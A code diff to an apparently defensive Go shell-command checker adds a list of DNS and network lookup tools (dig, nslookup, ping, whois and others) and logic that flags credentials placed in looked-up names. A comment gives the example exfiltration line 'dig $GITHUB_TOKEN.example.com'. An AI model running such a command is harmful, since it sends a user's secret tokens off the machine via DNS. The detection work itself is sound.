@@ -277,6 +277,12 @@ func (r *run) credential(sc *scope, name string, pos uint) string {
 // connection or a mailbox is no credential's home.
 var urlPrograms = map[string]bool{"curl": true, "wget": true, "http": true, "https": true, "xh": true}
 
+// nameLookups are programs that look a name up in DNS (or send it to a
+// host named by it): the name's text leaves the machine.
+var nameLookups = map[string]bool{"nslookup": true, "dig": true, "host": true, "drill": true, "kdig": true, "delv": true,
+	"ping": true, "ping6": true, "traceroute": true, "traceroute6": true, "tracepath": true, "mtr": true, "whois": true,
+	"getent": true, "resolvectl": true, "avahi-resolve": true, "fping": true, "hping3": true, "arping": true}
+
 // elsewhere are the options and environment variables that send a URL
 // program's request somewhere other than the URL's host, or take URLs
 // from elsewhere: its destinations are then not known.
@@ -300,6 +306,13 @@ func (r *run) secretEgress(sc *scope, s *syntax.Stmt, call *syntax.CallExpr, fs 
 	b := base(fs[0].val)
 	if hc, ok := hostClients[b]; ok {
 		r.clientEgress(sc, s, call, fs, hc, cmd)
+	}
+	if nameLookups[b] {
+		// The name looked up goes to DNS servers (or a host's resolver)
+		// whatever it holds: a credential in it leaves the machine
+		// (dig $GITHUB_TOKEN.example.com).
+		r.judgeEgress(b, r.sentCredentials(sc, s, call), nil, cmd)
+		return
 	}
 	if !networkSenders[b] {
 		// A URL's literal text is in its field too (the parts not known
